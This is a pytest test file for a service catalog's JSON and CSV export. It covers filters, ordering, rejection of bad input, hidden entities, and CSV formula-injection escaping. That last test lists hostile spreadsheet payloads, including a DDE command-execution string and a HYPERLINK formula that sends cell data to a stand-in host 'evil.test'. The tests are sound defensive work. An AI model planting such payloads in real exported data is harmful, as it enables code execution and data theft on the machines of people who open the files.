"""Exports of the catalog page's list: all of it, in its order, as JSON and as CSV that stays text."""

import csv
import io
import json
from typing import Any

import pytest

from .conftest import Api, names

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("company")]


def export(api: Api, form: str, **arguments: Any) -> tuple[Any, str]:
    search = arguments.pop("search", None)
    parameters = {name: json.dumps(value) for name, value in arguments.items()}
    answer = api.get(f"export.{form}", {**parameters, **({"search": search} if search else {})})
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return answer, body.decode()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_holds_the_entities_as_the_rest_of_the_api_shows_them(inside: Api) -> None:
    answer, text = export(inside, "json", filter={"kind": ["component"]})
    assert answer.headers["Content-Disposition"] == 'attachment; filename="catalog.json"'
    found = json.loads(text)
    assert names(found) == ["Component/orders", "Component/vault", "Component/Shop-Web"]
    assert found[0] == inside.read("entities/by-name/component/default/orders")
    assert json.loads(export(inside, "json", filter={"kind": ["nonsense"]})[1]) == []


def test_csv_has_a_line_for_each_entity(inside: Api) -> None:
    answer, text = export(inside, "csv", filter={"name": ["shop-web"]})
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="catalog.csv"'
    assert rows(text) == [
        {
            "ref": "component:default/shop-web",
            "kind": "Component",
            "namespace": "default",
            "name": "Shop-Web",
            "title": "Web shop",
            "type": "website",
            "lifecycle": "production",
            "owner": "group:default/team-a",
            "system": "system:default/shop",
            "tags": "python web",
            "description": "What customers see.",
        }
    ]


def test_the_page_s_filter_search_and_order_count(inside: Api) -> None:
    filter = {
        "and": [{"kind": ["component"]}, {"not": {"type": ["website"]}}],
        "where": [{"key": "spec.lifecycle", "in": ["production", "experimental"]}],
        "orphan": False,
    }
    order = {"field": "KIND", "direction": "DESC"}
    found = [row["name"] for row in rows(export(inside, "csv", filter=filter, orderBy=order)[1])]
    assert sorted(found) == ["orders", "vault"]
    by_type = export(inside, "csv", filter={"kind": ["component", "api"]}, orderBy=order)[1]
    assert [row["kind"] for row in rows(by_type)] == ["Component"] * 3 + ["API"]
    assert [row["name"] for row in rows(export(inside, "csv", search="orders-api")[1])] == ["orders-api"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("filter", "{"),
        ("filter", "[1]"),
        ("filter", '{"nonsense": 1}'),
        ("filter", '{"kind": [1]}'),
        ("filter", '{"where": [{"in": ["x"]}]}'),
        ("orderBy", '{"field": "NONSENSE"}'),
        ("orderBy", "{}"),
    ],
)
def test_what_the_page_would_not_send_is_refused(inside: Api, name: str, text: str) -> None:
    answer = inside.get("export.csv", {name: text})
    assert (answer.status_code, answer.json()["error"]["name"]) == (400, "InputError")


@pytest.mark.usefixtures("guarded")
def test_what_is_hidden_is_not_exported(inside: Api, outside: Api) -> None:
    for form in ("csv", "json"):
        assert "vault" in export(inside, form)[1]
        text = export(outside, form)[1]
        assert "component:default/orders" in text or '"orders"' in text
        assert "vault" not in text
        assert "secret" not in text


@pytest.mark.parametrize(
    "trap",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.test?x="&A1,"Error")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "  =1+1",
        "\t=1+1",
        "＝1+1",  # noqa: RUF001
    ],
)
def test_no_cell_is_a_formula(inside: Api, folder: Any, trap: str) -> None:
    entity = {
        "apiVersion": "backstage.io/v1alpha1",
        "kind": "Component",
        "metadata": {"name": "odd", "title": trap, "description": f"{trap}\r\n=1"},
        "spec": {"type": trap, "lifecycle": "production", "owner": "team-a"},
    }
    folder.write("all.yaml", json.dumps(entity))
    folder.add()
    (row,) = rows(export(inside, "csv", filter={"name": ["odd"]})[1])
    for column in ("title", "description", "type"):
        assert row[column].startswith("'")
        assert not row[column].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["title"] == f"'{trap}"
